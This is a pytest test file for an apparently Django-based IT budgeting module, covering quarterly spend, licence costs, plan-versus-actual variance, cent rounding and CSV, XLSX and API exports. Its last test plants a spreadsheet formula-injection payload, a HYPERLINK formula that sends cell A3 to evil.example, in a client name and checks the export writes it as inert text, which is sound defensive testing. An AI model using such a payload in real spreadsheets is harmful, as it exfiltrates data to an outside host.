"""The budget: roadmap spend, committed licences and fee, plan vs actual, exports."""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from vcio.assets.tests.factories import LicenceFactory
from vcio.core.fiscal import add_months, quarter_of
from vcio.strategy.budget import build_budget, to_csv, to_xlsx
from vcio.strategy.models import InitiativeStatus as S
from vcio.strategy.models import SpendEntry
from vcio.strategy.tests.factories import InitiativeFactory

TODAY = datetime.date(2027, 5, 10)  # FY2027 Q2 for Acme (fiscal year = calendar year)
Q1, Q2, Q3 = datetime.date(2027, 1, 1), datetime.date(2027, 4, 1), datetime.date(2027, 7, 1)


@pytest.fixture
def data(acme):
    acme.monthly_fee = Decimal("1500")
    acme.save()
    # 10 seats × 12.50 a month = 1,500 a year → 375 a quarter.
    LicenceFactory(client=acme, vendor="Microsoft", product="365", billing_period="monthly")
    LicenceFactory(client=acme, product="Perpetual", billing_period="perpetual")  # costs nothing
    firewall = InitiativeFactory(
        client=acme,
        title="Firewall",
        capex=Decimal("8000"),
        opex_per_year=Decimal("1200"),
        start_quarter=Q1,
        status=S.IN_PROGRESS,
    )
    InitiativeFactory(client=acme, title="Wi-Fi", capex=Decimal("5000"), start_quarter=Q3)
    InitiativeFactory(client=acme, title="Declined", capex=Decimal("99999"), start_quarter=Q1,
                      status=S.DECLINED)  # fmt: skip
    InitiativeFactory(client=acme, title="Unscheduled", capex=Decimal("99999"))
    SpendEntry.objects.create(initiative=firewall, date=datetime.date(2027, 2, 3),
                              amount=Decimal("9000"), kind="capex")  # fmt: skip
    SpendEntry.objects.create(initiative=firewall, date=datetime.date(2027, 4, 3),
                              amount=Decimal("300"), kind="opex")  # fmt: skip
    return acme


@pytest.mark.django_db
class TestBudget:
    def test_quarters_add_roadmap_committed_and_fee(self, data):
        b = build_budget(data, 2027, 1, today=TODAY)
        q1, q2, q3, q4 = b.lines
        assert [line.label for line in b.lines] == [
            "FY2027 Q1",
            "FY2027 Q2",
            "FY2027 Q3",
            "FY2027 Q4",
        ]
        assert (q1.initiative_capex, q1.initiative_opex) == (8000, 300)
        assert (q3.initiative_capex, q3.initiative_opex) == (5000, 300)
        assert q1.committed == Decimal("375") and q1.fee == 4500
        assert q1.total == 8000 + 300 + 375 + 4500
        assert (b.years[0].label, b.years[0].total) == ("FY2027", 13000 + 1200 + 1500 + 18000)

    def test_plan_vs_actual_only_for_quarters_that_have_begun(self, data):
        q1, q2, q3, q4 = build_budget(data, 2027, 1, today=TODAY).lines
        assert (q1.actual_capex, q1.variance) == (9000, Decimal("700"))  # 9,000 − 8,300
        assert (q2.actual_opex, q2.variance) == (300, 0)
        assert q3.variance is None and q4.variance is None

    def test_plan_vs_actual_by_initiative(self, data):
        rows = {r.title: r for r in build_budget(data, 2027, 1, today=TODAY).initiatives}
        assert set(rows) == {"Firewall", "Wi-Fi"}
        firewall = rows["Firewall"]
        assert (firewall.planned, firewall.planned_to_date, firewall.actual) == (9200, 8600, 9300)
        assert firewall.variance == 700 and firewall.start == "FY2027 Q1"

    def test_two_years_by_default_from_the_current_one(self, data):
        b = build_budget(data, today=TODAY)
        assert [y.label for y in b.years] == ["FY2027", "FY2028"]
        assert b.lines[4].initiative_opex == 300  # the firewall's yearly cost runs on

    def test_csv_and_xlsx_hold_the_same_rows(self, data):
        b = build_budget(data, 2027, 1, today=TODAY)
        rows = list(csv.reader(io.StringIO(to_csv(b))))
        assert rows[0][0] == "Period" and rows[1][:4] == ["FY2027 Q1", "8000.00", "0.00", "300.00"]
        assert [r[0] for r in rows[1:]] == ["FY2027 Q1", "FY2027 Q2", "FY2027 Q3", "FY2027 Q4",
                                            "FY2027", "Total"]  # fmt: skip
        sheet = load_workbook(io.BytesIO(to_xlsx(b))).active
        assert sheet["A1"].value == "Acme Corp: IT budget (USD)"
        assert [c.value for c in sheet[3]][:4] == ["FY2027 Q1", 8000, 0, 300]
        assert sheet.cell(row=8, column=1).value == "Total"


def _first_fiscal_quarter_today(client) -> datetime.date:
    """Makes today fall in the first quarter of ``client``'s fiscal year; returns its start.

    Then Q1 has begun and Q2–Q4 of the same fiscal year have not, whatever today is.
    """
    today = timezone.localdate()
    client.fiscal_year_start_month = today.month
    client.save()
    return today.replace(day=1)


@pytest.fixture
def year_begun_in_part(acme):
    """Q1 has begun: firewall planned 8,000 + 300 in it, 9,000 spent; Wi-Fi (5,000) is in Q3."""
    q1 = _first_fiscal_quarter_today(acme)
    firewall = InitiativeFactory(client=acme, title="Firewall", capex=Decimal("8000"),
                                 opex_per_year=Decimal("1200"), start_quarter=q1,
                                 status=S.IN_PROGRESS)  # fmt: skip
    InitiativeFactory(client=acme, title="Wi-Fi", capex=Decimal("5000"),
                      start_quarter=add_months(q1, 6))  # fmt: skip
    SpendEntry.objects.create(initiative=firewall, date=q1, amount=Decimal("9000"), kind="capex")
    return acme


def _page_row(html: str, label: str) -> list[str]:
    """The cells of the budget table's row ``label``, as text."""
    table = html.split('id="budget-table"')[1].split("</table>")[0]
    row = re.search(rf'<th scope="row">{label}</th>(.*?)</tr>', table, re.S)
    assert row, f"no row {label}"
    return [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row[1])]


@pytest.mark.django_db
class TestVarianceCountsOnlyQuartersThatHaveBegun:
    """Actual − planned of a year and of the total: 9,000 spent − 8,300 planned in Q1 = +700.

    Counting the quarters still ahead would give 9,000 − 14,200 = −5,200 for the year.
    """

    def year(self, client) -> str:
        return f"FY{quarter_of(timezone.localdate(), client.fiscal_year_start_month).fiscal_year}"

    def test_on_the_page(self, client, carol, year_begun_in_part):
        client.force_login(carol)
        html = client.get(reverse("strategy:budget", args=["acme"])).text
        assert _page_row(html, self.year(year_begun_in_part))[-1] == "$700"
        assert _page_row(html, "Total")[-1] == "$700"

    def test_in_the_csv_and_the_xlsx(self, client, carol, year_begun_in_part):
        client.force_login(carol)
        year = self.year(year_begun_in_part)
        text = client.get(reverse("strategy:budget_csv", args=["acme"])).content.decode()
        rows = {r[0]: r for r in csv.reader(io.StringIO(text))}
        assert rows[year][-1] == "700.00" and rows["Total"][-1] == "700.00"
        response = client.get(reverse("strategy:budget_xlsx", args=["acme"]))
        sheet = load_workbook(io.BytesIO(response.getvalue())).active
        cells = {r[0]: r for r in sheet.iter_rows(min_row=3, values_only=True)}
        assert cells[year][-1] == 700 and cells["Total"][-1] == 700

    def test_in_the_api(self, api, carol, year_begun_in_part):
        body = api(carol).get("/api/budget/acme/").json()
        assert body["years"][0]["period"] == self.year(year_begun_in_part)
        assert Decimal(str(body["years"][0]["variance"])) == 700
        assert body["years"][1]["variance"] is None  # next year: nothing has begun
        assert Decimal(str(body["total"]["variance"])) == 700


@pytest.mark.django_db
class TestRowsAddUpInCents:
    def test_a_yearly_amount_splits_into_quarters_that_add_up_to_it(self, data):
        # 50,885.90 a year is 12,721.475 a quarter: four quarters shown as 12,721.48 would
        # add up to 50,885.92 against a year row of 50,885.90.
        LicenceFactory(
            client=data,
            product="ERP",
            seats_owned=1,
            billing_period="annual",
            unit_cost=Decimal("49385.90"),
        )  # fmt: skip  (+ 1,500 = 50,885.90 a year)
        b = build_budget(data, 2027, 1, today=TODAY)
        rows = list(csv.reader(io.StringIO(to_csv(b))))
        column = rows[0].index("Licences and subscriptions")
        quarters = [Decimal(r[column]) for r in rows[1:5]]
        assert rows[5][0] == "FY2027" and rows[5][column] == "50885.90"
        assert sum(quarters) == Decimal("50885.90")
        assert sorted(quarters) == [Decimal("12721.47")] * 2 + [Decimal("12721.48")] * 2
        totals = [Decimal(r[rows[0].index("Total")]) for r in rows[1:6]]
        assert sum(totals[:4]) == totals[4]
        sheet = load_workbook(io.BytesIO(to_xlsx(b))).active
        xlsx_quarters = [sheet.cell(row=r, column=column + 1).value for r in range(3, 7)]
        assert round(sum(xlsx_quarters), 2) == sheet.cell(row=7, column=column + 1).value


@pytest.mark.django_db
def test_a_client_name_starting_with_a_formula_is_written_to_the_xlsx_as_text(client, bob, acme):
    acme.name = '=HYPERLINK("http://evil.example/?"&A3,"Acme")'
    acme.save()
    client.force_login(bob)
    data = client.get(reverse("strategy:budget_xlsx", args=["acme"])).getvalue()
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].data_type == "s"  # a string cell, shown exactly as typed
    assert sheet["A1"].value == '=HYPERLINK("http://evil.example/?"&A3,"Acme"): IT budget (USD)'
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")  # no formula anywhere
